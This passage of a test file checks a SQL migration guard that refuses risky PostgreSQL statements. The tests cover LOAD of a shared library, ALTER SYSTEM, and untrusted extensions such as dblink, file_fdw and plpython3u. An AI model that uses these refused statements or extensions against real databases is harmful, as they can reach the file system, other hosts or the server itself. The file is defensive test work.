    ['dropping things inside the database', 'DROP TABLE IF EXISTS t CASCADE;\nDROP EXTENSION IF EXISTS dblink;\nDROP SCHEMA old CASCADE;'],
    ['a PL/pgSQL function using %TYPE and %ROWTYPE', [
      'CREATE FUNCTION rename_order(p_id orders.id%TYPE, p_name public.orders.name%TYPE) RETURNS orders.name%TYPE LANGUAGE plpgsql AS $$',
      'DECLARE r orders%ROWTYPE; old orders.name%TYPE;',
      'BEGIN',
      '  SELECT * INTO STRICT r FROM orders WHERE id = p_id;',
      '  old := r.name;',
      '  UPDATE orders SET name = p_name WHERE id = p_id;',
      "  EXECUTE 'NOTIFY orders';",
      '  RETURN old;',
      'END $$;',
    ].join('\n')],
    ['EXECUTE of constant and variable SQL that stays in the database', "DO $$ DECLARE q text := 'ALTER TABLE t ADD COLUMN x int'; BEGIN EXECUTE q; EXECUTE 'ALTER TABLE t ' || 'ADD COLUMN y int'::text; q := ''; END $$;"],
    ['pg_dump header and tablespace defaults', "SET default_tablespace = '';\nSELECT pg_catalog.set_config('search_path', '', false);\nCREATE INDEX i ON public.t USING btree (a) TABLESPACE pg_default;"],
    ['updating an extension on the allow list', "ALTER EXTENSION pgcrypto UPDATE TO '1.3';\nALTER EXTENSION pg_trgm UPDATE;"],
    ['a publication of named tables', 'CREATE PUBLICATION orders_pub FOR TABLE orders;\nALTER PUBLICATION orders_pub ADD TABLE lines;\nDROP PUBLICATION IF EXISTS old_pub;'],
    ['reading the catalogs and writing to ordinary tables', "SELECT c.relname FROM pg_catalog.pg_class c JOIN pg_roles r ON r.oid = c.relowner;\nINSERT INTO orders SELECT * FROM staging;\nTRUNCATE staging;\nLOCK TABLE orders IN SHARE MODE;\nGRANT EXECUTE ON FUNCTION public.f(int) TO app;\nGRANT SELECT ON ALL TABLES IN SCHEMA public TO reporting;"],
    ['composite fields and columns named like functions', 'SELECT (o.addr).city, o.dblink_id FROM orders o;\nUPDATE orders o SET total = x.total FROM totals x WHERE o.id = x.id;'],
    ['comments on objects inside the database', "COMMENT ON TABLE t IS 'x';\nCOMMENT ON EXTENSION pgcrypto IS 'x';\nCOMMENT ON SCHEMA public IS 'x';"],
    ['an empty file', ''],
    ['comments only', '-- nothing to do\n/* really */\n'],
  ];
  it.each(PASSING)('%s', async (_name, sql) => {
    expect(await fence(sql)).toEqual([]);
  });
});

describe('allowances', () => {
  it('a kind allowed for the target goes through, others are still refused', async () => {
    const sql = 'CREATE ROLE reporting;\nGRANT reporting TO app;\nALTER SYSTEM SET x = 1;';
    expect(await kindsOf(sql)).toEqual(['role', 'role_membership', 'alter_system']);
    expect(await kindsOf(sql, { allowedKinds: ['role', 'role_membership'], allowedExtensions: [] })).toEqual(['alter_system']);
  });

  it('the extension allow list decides CREATE EXTENSION; the extension kind lets any through', async () => {
    expect(await kindsOf('CREATE EXTENSION postgis;')).toEqual(['extension']);
    expect(await kindsOf('CREATE EXTENSION postgis;', { allowedKinds: [], allowedExtensions: [...DEFAULT_ALLOWED_EXTENSIONS, 'postgis'] })).toEqual([]);
    expect(await kindsOf('CREATE EXTENSION pgcrypto;', { allowedKinds: [], allowedExtensions: ['postgis'] })).toEqual(['extension']);
    expect(await kindsOf('CREATE EXTENSION dblink;', { allowedKinds: ['extension'], allowedExtensions: [] })).toEqual([]);
  });

  it('the default allow list is the set PostgreSQL trusts, without untrusted ones', () => {
    expect(DEFAULT_ALLOWED_EXTENSIONS).toEqual(expect.arrayContaining(['pgcrypto', 'pg_trgm', 'citext', 'uuid-ossp', 'hstore', 'btree_gin', 'btree_gist']));
    for (const untrusted of ['dblink', 'postgres_fdw', 'file_fdw', 'adminpack', 'plperlu', 'plpython3u']) expect(DEFAULT_ALLOWED_EXTENSIONS).not.toContain(untrusted);
  });

  it('a syntax error is never allowed through', async () => {
    const violations = await fence('SELEC 1;', { allowedKinds: FENCE_KINDS.map((k) => k.id), allowedExtensions: [] });
    expect(violations).toMatchObject([{ kind: 'syntax', line: 1, column: 1 }]);
  });
});

describe('assertFenceAllows', () => {
  it('throws FenceError naming the file, line and reason', async () => {
    const err = await assertFenceAllows('20260101000000_x/migration.sql', 'SELECT 1;\nLOAD \'x\';', DEFAULT_FENCE_ALLOWANCES).catch((e) => e);
    expect(err).toBeInstanceOf(FenceError);
    expect(err.file).toBe('20260101000000_x/migration.sql');
    expect(err.violations).toHaveLength(1);
    expect(err.message).toMatch(/^20260101000000_x\/migration\.sql was refused: line 2, column 1: LOAD loads a shared library/);
  });

  it('leaves a file that does not parse to the planner (which refuses it with its own line and column)', async () => {
    await expect(assertFenceAllows('m.sql', 'SELEC 1;', DEFAULT_FENCE_ALLOWANCES)).resolves.toBeUndefined();
    await expect(assertFenceAllows('m.sql', "SELEC 1;\nLOAD 'x';", DEFAULT_FENCE_ALLOWANCES)).resolves.toBeUndefined();
  });

  it('resolves for SQL the fence allows', async () => {
    await expect(assertFenceAllows('m.sql', 'CREATE TABLE t (id int);', DEFAULT_FENCE_ALLOWANCES)).resolves.toBeUndefined();
  });

  it('checks a 10,000-statement file quickly', async () => {
    const sql = Array.from({ length: 10_000 }, (_, i) => `ALTER TABLE t${i % 50} ADD COLUMN c${i} int DEFAULT ${i};`).join('\n');
    const t0 = performance.now();
    expect(await fence(sql)).toEqual([]);
    expect(performance.now() - t0).toBeLessThan(5000);
  });
});
